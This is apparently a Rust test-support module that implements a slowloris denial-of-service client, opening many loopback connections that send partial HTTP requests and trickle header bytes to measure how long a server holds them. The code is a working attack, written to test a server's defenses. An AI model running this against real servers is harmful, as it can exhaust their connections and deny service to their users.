//! A slowloris client: threads holding many connections to an HTTP server, each sending
//! the start of a request and then one more header byte every second, never the end.
//! Linux routes all of 127.0.0.0/8 to loopback, so connections bound to 127.0.0.2 and up
//! count as other clients than a check from 127.0.0.1.

#![allow(dead_code)] // Each test crate that includes this uses part of it.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream};
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use nix::sys::socket::{bind, connect, socket, AddressFamily, SockFlag, SockType, SockaddrIn};

/// A TCP connection to `to` from the loopback address `from`.
pub fn connect_from(from: Ipv4Addr, to: SocketAddr) -> TcpStream {
    let fd = socket(
        AddressFamily::Inet,
        SockType::Stream,
        SockFlag::empty(),
        None,
    )
    .unwrap();
    bind(
        fd.as_raw_fd(),
        &SockaddrIn::from(SocketAddrV4::new(from, 0)),
    )
    .unwrap();
    let SocketAddr::V4(to) = to else {
        panic!("{to} is not IPv4")
    };
    connect(fd.as_raw_fd(), &SockaddrIn::from(to)).unwrap();
    TcpStream::from(fd)
}

/// What became of one attacking connection.
#[derive(Debug, Clone)]
pub struct Fate {
    /// The status line the server sent when it cut the connection off, if any.
    pub answer: Option<String>,
    /// How long the server put up with it; None while it is still open.
    pub held: Option<Duration>,
}

/// Slowloris: `per_address` connections from each of `addresses`, each sending a request
/// line and then one header byte every second, never the blank line. Runs until `stop`;
/// each connection's fate is recorded in the returned list.
pub struct Slowloris {
    fates: Arc<Mutex<Vec<Fate>>>,
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
}

impl Slowloris {
    pub fn start(server: SocketAddr, addresses: &[Ipv4Addr], per_address: usize) -> Slowloris {
        let fates = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        // A few threads, each holding the connections of some addresses, as the tool does.
        let threads = addresses
            .chunks(addresses.len().div_ceil(4))
            .map(|chunk| {
                let (chunk, fates, stop) = (chunk.to_vec(), Arc::clone(&fates), Arc::clone(&stop));
                std::thread::spawn(move || attack(server, &chunk, per_address, &fates, &stop))
            })
            .collect();
        Slowloris {
            fates,
            stop,
            threads,
        }
    }

    pub fn fates(&self) -> Vec<Fate> {
        self.fates.lock().unwrap().clone()
    }

    /// How many attacking connections the server is holding open right now.
    pub fn open(&self) -> usize {
        self.fates().iter().filter(|f| f.held.is_none()).count()
    }

    pub fn stop(self) -> Vec<Fate> {
        self.stop.store(true, Ordering::SeqCst);
        for thread in self.threads {
            thread.join().unwrap();
        }
        let fates = self.fates.lock().unwrap().clone();
        fates
    }
}

fn attack(
    server: SocketAddr,
    addresses: &[Ipv4Addr],
    per_address: usize,
    fates: &Mutex<Vec<Fate>>,
    stop: &AtomicBool,
) {
    let mut open = Vec::new();
    for &address in addresses {
        for _ in 0..per_address {
            let mut stream = connect_from(address, server);
            stream.set_nonblocking(true).unwrap();
            stream.write_all(b"GET /health HTTP/1.1\r\nX-a: ").unwrap();
            let mut fates = fates.lock().unwrap();
            fates.push(Fate {
                answer: None,
                held: None,
            });
            open.push((stream, fates.len() - 1, Instant::now()));
        }
    }
    while !stop.load(Ordering::SeqCst) {
        open.retain_mut(|(stream, index, since)| {
            let mut answer = [0u8; 256];
            let cut = match stream.read(&mut answer) {
                Ok(0) => Some(None),
                Ok(n) => {
                    let text = String::from_utf8_lossy(&answer[..n]);
                    Some(text.lines().next().map(str::to_string))
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    // Still open: one more byte of a header that never ends.
                    match stream.write_all(b"a") {
                        Ok(()) => None,
                        Err(_) => Some(None),
                    }
                }
                Err(_) => Some(None),
            };
            let still_open = cut.is_none();
            if let Some(answer) = cut {
                fates.lock().unwrap()[*index] = Fate {
                    answer,
                    held: Some(since.elapsed()),
                };
            }
            still_open
        });
        // One byte a second each: a per-read timeout of a few seconds never fires.
        for _ in 0..10 {
            if stop.load(Ordering::SeqCst) {
                break;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

/// 127.0.0.FIRST and the COUNT addresses after it: each a client of its own.
pub fn loopback(first: u8, count: u8) -> Vec<Ipv4Addr> {
    (first..first + count)
        .map(|k| Ipv4Addr::new(127, 0, 0, k))
        .collect()
}
